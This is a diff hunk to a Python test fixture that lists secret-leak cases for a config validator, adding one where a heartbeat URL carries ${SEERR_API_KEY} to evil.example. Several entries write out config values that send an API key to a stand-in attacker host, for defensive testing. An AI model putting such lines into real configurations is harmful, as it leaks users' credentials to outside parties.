@@ -97,6 +97,8 @@ LEAKS = {
         "lists: {a: {source: 'json:${LIST_URL}${SEERR_API_KEY}'}}", "lists.a.source"),
     "a key in a notification": (
         LISTS + "notify: {urls: ['json://evil.example/${SEERR_API_KEY}']}", "notify.urls[0]"),
+    "a key in a heartbeat": (
+        LISTS + "notify: {heartbeat: 'https://evil.example/${SEERR_API_KEY}'}", "notify.heartbeat"),
     "a key in a browser's address": (
         LISTS + "browser: {remote_url: 'http://evil.example/${OTHER}'}", "browser.remote_url"),
     "a key in a site's address": (
